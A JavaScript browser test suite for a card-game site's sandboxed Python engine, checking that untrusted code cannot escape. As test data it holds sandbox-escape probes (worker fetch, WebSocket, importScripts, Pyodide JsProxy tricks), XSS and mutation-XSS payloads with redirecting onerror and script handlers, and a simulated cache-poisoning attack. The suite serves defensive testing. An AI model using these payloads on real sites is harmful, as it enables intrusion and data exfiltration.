// Hostile lines, hostile scripts, a store that was tampered with and forged answers: whoever tries
// to get out reaches no other origin, no store and no other page. Every door is also tried where it
// is open: what is not heard there was not tried.
import { MODES } from "../browser.mjs";

const CHAPTER = "games/swedish-kasino.html";
const F4 = `${CHAPTER}#f4`;
const panel = (page) => page.locator("figure#f4");
const shown = (page) => panel(page).locator(".ks-answer");

// What lines come to, as the page shows them: what is told, and the state below them.
const run = async (page, source) => {
  await panel(page).locator("textarea").fill(source);
  await panel(page).locator(".ks-main").click();
  await page.waitForFunction(() => document.querySelector("figure#f4 .ks-stop").hidden && document.querySelector("figure#f4 .ks-answer").hasChildNodes());
  return (await shown(page).innerText()).trim();
};
const unfold = async (page) => {
  await panel(page).locator(".ks-tries").click();
  await panel(page).getByRole("tab", { name: "Python" }).click();
};
const open = async (page) => {
  await unfold(page);
  await page.waitForSelector("figure#f4 .ks-answer .ks-position");
};
const heard = async (page, task) => (await page.request.get(`${task.heard}heard`)).json();

// ---- scripts, where lines of Python would have got as far as that ---------------------------------

// Knocks at every door that a worker knows, each under its name; what is got besides is told.
const KNOCKS = `onmessage = async ({ data: { elsewhere, store }, ports: [port] }) => {
  const at = (name) => elsewhere + name;
  const got = [];
  const nested = (script) => new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" })));
  const doors = {
    fetch: () => fetch(at("fetch"), { mode: "no-cors" }),
    post: () => fetch(at("post"), { method: "POST", mode: "no-cors", body: "x" }),
    xhr: () => { const asked = new XMLHttpRequest(); asked.open("GET", at("xhr"), false); asked.send(); },
    socket: () => new Promise((done) => { new WebSocket(at("socket").replace("http", "ws")).onerror = done; }),
    source: () => new Promise((done) => { new EventSource(at("source")).onerror = done; }),
    import: () => import(at("import")),
    scripts: () => importScripts(at("scripts")),
    nested: () => new Promise((done) => { nested("fetch(" + JSON.stringify(at("nested")) + ", { mode: 'no-cors' }).finally(() => postMessage(0))").onmessage = done; }),
  };
  for (const [name, knock] of Object.entries(doors)) {
    try { await Promise.race([knock(), new Promise((done) => setTimeout(done, 1500))]); } catch {}
  }
  const kept = {
    caches: () => caches.open("planted"),
    indexedDB: () => new Promise((done, failed) => { const asked = indexedDB.open("planted"); asked.onsuccess = done; asked.onerror = failed; }),
    cookies: () => cookieStore.getAll(),
    files: () => navigator.storage.getDirectory(),
    eval: () => eval("1 + 1"),
    Function: () => new Function("return 1")(),
  };
  for (const [name, take] of Object.entries(kept)) {
    try { await take(); got.push(name); } catch {}
  }
  port.postMessage(got);
};`;
const NETWORK = ["fetch", "post", "xhr", "socket", "source", "import", "scripts", "nested"];

// The room of the site, with another script in it than the engine's; what it got hold of.
const inRoom = (page, task, sandbox = "allow-scripts") =>
  page.evaluate(
    async ([script, elsewhere, sandbox]) => {
      const place = new URL("_static/desk/engine/", new URL(document.documentElement.dataset.content_root, location));
      const { folder } = await (await fetch(new URL("manifest.json", place))).json();
      const room = Object.assign(document.createElement("iframe"), { src: new URL(`${folder}/room.html`, place) });
      if (sandbox) room.setAttribute("sandbox", sandbox);
      const loaded = new Promise((done) => (room.onload = done));
      document.body.append(room);
      await loaded;
      const { port1, port2 } = new MessageChannel();
      const told = new Promise((done) => (port1.onmessage = ({ data }) => done(data)));
      room.contentWindow.postMessage({ script, elsewhere, files: {} }, "*", [port2]);
      const found = await Promise.race([told, new Promise((done) => setTimeout(done, 20_000, null))]);
      room.remove();
      return found;
    },
    [KNOCKS, task.heard, sandbox],
  );

const scripts = async ({ task, visit, count }) => {
  const closed = await visit(CHAPTER, MODES[0], { quiet: true, elsewhere: true });
  const got = await inRoom(closed.page, task);
  if (!got) closed.report("the room runs no script at all");
  if (got?.length) closed.report(`a script in the room gets hold of ${got.join(", ")}`);
  const asked = await heard(closed.page, task);
  if (asked.length) closed.report(`a script in the room reaches another origin by ${asked.join(", ")}`);
  if (await inRoom(closed.page, task, "").then(Boolean)) closed.report("the room runs scripts though nobody has closed it");
  if (await inRoom(closed.page, task, "allow-scripts allow-same-origin").then(Boolean)) closed.report("the room runs scripts with the origin of the site");
  await closed.context.close();
  const control = await visit(CHAPTER, MODES[0], { at: "open", quiet: true, elsewhere: true });
  await inRoom(control.page, task);
  const through = await heard(control.page, task);
  for (const name of NETWORK.filter((each) => !through.includes(each))) control.report(`${name} is not tried: it is not heard even where no policy is`);
  await control.context.close();
  count("doors tried by a script", NETWORK.length + 6);
};

// ---- lines of Python -----------------------------------------------------------------------------

const LINES = (elsewhere) => [
  `import js\njs.fetch("${elsewhere}py-fetch")`,
  `from pyodide.http import open_url\nopen_url("${elsewhere}py-open_url")`,
  `from pyodide.code import run_js\nrun_js("fetch('${elsewhere}py-run_js')")`,
  `import pyodide_js\npyodide_js.loadPackage("${elsewhere}py-package.whl")`,
  `import micropip`,
  `import urllib.request\nurllib.request.urlopen("${elsewhere}py-urlopen")`,
  `import http.client\nhttp.client.HTTPConnection("${new URL(elsewhere).host}").request("GET", "/py-http")`,
  `import sys\nsys.meta_path.clear()\nfrom importlib.machinery import PathFinder, BuiltinImporter\nsys.meta_path[:] = [BuiltinImporter, PathFinder]\nimport pyodide.code\npyodide.code.run_js("fetch('${elsewhere}py-finder')")`,
  `import gc\nfor each in gc.get_objects():\n    if "JsProxy" in type(each).__name__:\n        for way in ("fetch", "eval"):\n            try: getattr(each, way)("${elsewhere}py-proxy")\n            except BaseException: pass\n        try: each.constructor.constructor("return fetch('${elsewhere}py-function')")()\n        except BaseException: pass\nraise ImportError("nothing found")`,
];

// Ends that are not slow are told by their own words, at once; after each the state is at rest.
const ENDS = [
  ["import sys\nsys.exit()", "line 2: the lines stop here (SystemExit)"],
  ["raise SystemExit", "line 1: the lines stop here (SystemExit)"],
  ["raise KeyboardInterrupt", "line 1: the lines interrupt themselves here (KeyboardInterrupt)"],
  ["class Own(BaseException): pass\n\nraise Own", "line 3: Own"],
  ["def f(): return f()\n\nf()", "line 1: too deep for Python"],
  ["x = bytearray(2 * 10**9)", "line 1: not enough memory"],
  ["input()", "line 1: EOFError"],
  [`x = ${"[".repeat(3000)}${"]".repeat(3000)}`, "Too deep for this browser"],
  ["import os\nos._exit(1)", "Python stopped"],
];

const lines = async ({ task, visit, count }) => {
  const { page, context, report } = await visit(F4, MODES[0], { quiet: true });
  await open(page);
  const hostile = LINES(task.heard);
  for (const each of hostile) {
    const said = await run(page, each);
    if (!/Error/.test(said)) report(`${each} is answered by ${said}`);
  }
  const asked = (await heard(page, task)).filter((name) => name.startsWith("py-"));
  if (asked.length) report(`lines reach another origin by ${asked.join(", ")}`);
  count("hostile lines", hostile.length);
  for (const [each, words] of ENDS) {
    const said = await run(page, each);
    if (!said.startsWith(words)) report(`${each.slice(0, 40)} is told as ${said}`);
  }
  if ((await run(page, "print(6 * 7)")).split("\n").at(-1) !== "42") report("after an end nothing is answered");
  count("ends", ENDS.length);
  const beside = await panel(page).locator(".ks-try").innerText();
  if (!beside.includes("closed room")) report("nothing beside the lines says what the room keeps out");
  await context.close();
};

// ---- forged answers --------------------------------------------------------------------------------

const FORGED = (elsewhere) =>
  `<meta http-equiv="refresh" content="0;url=${elsewhere}forged-meta"><link rel="stylesheet" href="${elsewhere}forged-link">` +
  `<img src="${elsewhere}forged-img" onerror="location='${elsewhere}forged-onerror'"><script>location="${elsewhere}forged-script"</script>` +
  `<iframe src="${elsewhere}forged-iframe"></iframe><form action="${elsewhere}forged-form"><button>send</button></form><style>@import "${elsewhere}forged-style";</style>` +
  `<svg><script>1</script><a href="javascript:1"><circle r="6" onload="1"/></a><foreignObject><p>drawn</p></foreignObject></svg><base href="${elsewhere}">` +
  `<a href="${elsewhere}forged-a">away</a><a href="javascript:location='${elsewhere}'">script</a><a class="ks-ref" href="../id/SWE-26/" onclick="1" style="color:red">SWE-26</a>` +
  `<math><mtext><table><mglyph><style><!--</style><img src="${elsewhere}forged-math">--></table></mtext></math><p id="desk" autofocus popover>read me</p>`;
const ALLOWED = "a, circle, p, svg, table, tbody";

const forged = async ({ task, visit, count }) => {
  const { page, context, report } = await visit(F4, MODES[0], { quiet: true });
  await open(page);
  const forge = `from kartenspiele.interfaces.browser import wording\nwording.told = lambda tale, root="": ${JSON.stringify(FORGED(task.heard))}`;
  const said = await run(page, forge);
  if (!said.includes("read me")) report(`a forged answer is not shown as its text: ${said}`);
  const found = await shown(page).evaluate(
    (answer, allowed) => ({
      strange: [...answer.querySelectorAll("*")].filter((each) => !each.matches(allowed)).map((each) => each.localName),
      attributes: [...answer.querySelectorAll("*")].flatMap((each) => [...each.attributes].map(({ name, value }) => `${name}=${value}`)).sort(),
    }),
    ALLOWED,
  );
  if (found.strange.length) report(`a forged answer brings ${found.strange.join(", ")}`);
  const wanted = ["class=ks-ref", "href=../id/SWE-26/", "r=6"];
  if (found.attributes.join() !== wanted.join()) report(`a forged answer brings ${found.attributes.join(", ")}`);
  await page.waitForTimeout(500);
  if (!page.url().startsWith(task.base)) report(`a forged answer leads to ${page.url()}`);
  const asked = (await heard(page, task)).filter((name) => name.startsWith("forged"));
  if (asked.length) report(`a forged answer asks another origin for ${asked.join(", ")}`);
  const away = `from kartenspiele.interfaces.browser import staging\nstaging.address_of = lambda *asked: "${task.heard}forged-ask"\nposition(SWEDISH, table="♠9", hand="♦9")`;
  await panel(page).locator("textarea").fill(away);
  await panel(page).getByRole("tab", { name: "Cards" }).click();
  await page.waitForFunction(() => document.querySelectorAll("figure#f4 .kt-card").length === 2); // ♠9 and ♦9: those of these lines
  await page.waitForSelector("figure#f4 .kt-lit");
  if (await panel(page).locator(".ks-stage a.ks-asking").isVisible()) report("a forged address is a link beside the cards");
  await panel(page).getByRole("tab", { name: "Python" }).click();
  // What no reader's lines have touched answers as ever: the printed lines, and those of others.
  await panel(page).getByRole("button", { name: "Reset" }).click();
  await panel(page).locator(".ks-main").click();
  await page.waitForSelector("figure#f4 .ks-answer .ks-position").catch(() => report("the printed lines are answered by what other lines have left"));
  count("forged answers");
  await context.close();
};

// ---- the store ---------------------------------------------------------------------------------------

const PLANTED = `export const loadPyodide = () => { throw new Error("planted"); }; export default loadPyodide;`;

// Every file of the store is overwritten, and the list of them; the next load finds it, and mends it.
const poisoned = async ({ task, visit, count }) => {
  const { page, context, report } = await visit(F4, MODES[0]);
  await open(page);
  const number = await page.evaluate(async (planted) => {
    const old = await caches.open("kartenspiele-engine");
    let number = 0;
    // What pages are kept offline.mjs tries.
    for (const name of (await caches.keys()).filter((each) => !each.includes("pages"))) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        const { length } = await (await cache.match(request)).arrayBuffer();
        const { byteLength } = await (await cache.match(request)).arrayBuffer();
        const same = number % 2 ? new Uint8Array(byteLength ?? length) : planted;
        await cache.put(request, new Response(same));
        await old.put(request, new Response(planted));
        number += 1;
      }
      await cache.put("https://example.org/", new Response(planted));
    }
    return number;
  }, PLANTED);
  if (number < 8) report(`the store has ${number} files, which is not the engine`);
  await page.reload({ waitUntil: "load" });
  await open(page).catch(() => report("a store that was tampered with is not mended"));
  const left = await page.evaluate(async () => {
    const place = new URL("_static/desk/engine/", new URL(document.documentElement.dataset.content_root, location)).href;
    const { files, folder } = await (await fetch(`${place}manifest.json`)).json();
    const hexed = (bytes) => Array.from(new Uint8Array(bytes), (byte) => byte.toString(16).padStart(2, "0")).join("");
    const wrong = [];
    const names = (await caches.keys()).filter((each) => !each.includes("pages"));
    for (const name of names) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        const told = files[request.url.replace(`${place}${folder}/`, "")];
        const bytes = await (await cache.match(request)).arrayBuffer();
        const isList = request.url === `${place}manifest.json`;
        const isRight = isList ? JSON.parse(new TextDecoder().decode(bytes)).folder === folder : told && hexed(await crypto.subtle.digest("SHA-256", bytes)) === told.sha256;
        if (!isRight) wrong.push(`${name} ${request.url}`);
      }
    }
    return { wrong, names };
  });
  if (left.names.length !== 1) report(`what is kept lies in ${left.names.join(", ")}`);
  if (left.wrong.length) report(`the store still has ${left.wrong.join(", ")}`);
  await context.close();
  count("files tampered with", number);
};

// What the network brings is checked as well, also where a browser has no store and counts no hashes.
const replaced = async ({ visit }) => {
  for (const isBare of [false, true]) {
    const { page, context, report } = await visit("index.html", MODES[0], { quiet: true });
    if (isBare) await context.addInitScript(() => { delete globalThis.caches; Object.defineProperty(Crypto.prototype, "subtle", { value: undefined }); });
    await page.route("**/pyodide.mjs", (route) => route.fulfill({ body: PLANTED, contentType: "text/javascript" }));
    await page.goto(new URL(F4, page.url()).href);
    await unfold(page);
    await page.waitForSelector("figure#f4 .ks-answer .ks-fault");
    const said = (await shown(page).innerText()).trim();
    if (!said.startsWith(isBare ? "The engine did not load" : "The browser loaded something other")) report(`a file that was replaced is told as ${said}`);
    await page.unroute("**/pyodide.mjs");
    await panel(page).locator(".ks-main").click();
    await page.waitForSelector("figure#f4 .ks-answer .ks-position").catch(() => report("after a file that was replaced nothing is answered"));
    await context.close();
  }
};

// ---- addresses that nobody has written with care -------------------------------------------------------

const ADDRESSES = [
  ["ask.html#game=%", "The address names game=%"],
  ["ask.html#game=casino&variant=%ff", "The address names variant="],
  ["ask.html#game=casino&hand=SA&turn=0", "This address counts players from 0"],
  ["play.html#game=casino&seat=1", "The address names seat=1"],
  ["play.html#game=%", "The address names game=%"],
  ["play.html#game=casino&seats=%", "The address names seats=%"],
  ["compare.html#set=%", "There is no variant %"],
  ["records/F3.html#step=%", "The address names step=%"],
  ["replay.html#%", ""],
  ["glossary.html#%", ""],
  [`${CHAPTER}#%`, ""],
  [`${CHAPTER}#try=%&lines=%`, ""],
  ["search.html?q=%", ""],
];

const addresses = async ({ visit, count }) => {
  for (const [address, words] of ADDRESSES) {
    const { page, context } = await visit(address, MODES[0]);
    if (words) await page.getByText(words).first().waitFor();
    await context.close();
  }
  count("addresses written without care", ADDRESSES.length);
};

export const used = async (tools) => {
  await scripts(tools);
  await lines(tools);
  await forged(tools);
  await poisoned(tools);
  await replaced(tools);
  await addresses(tools);
};
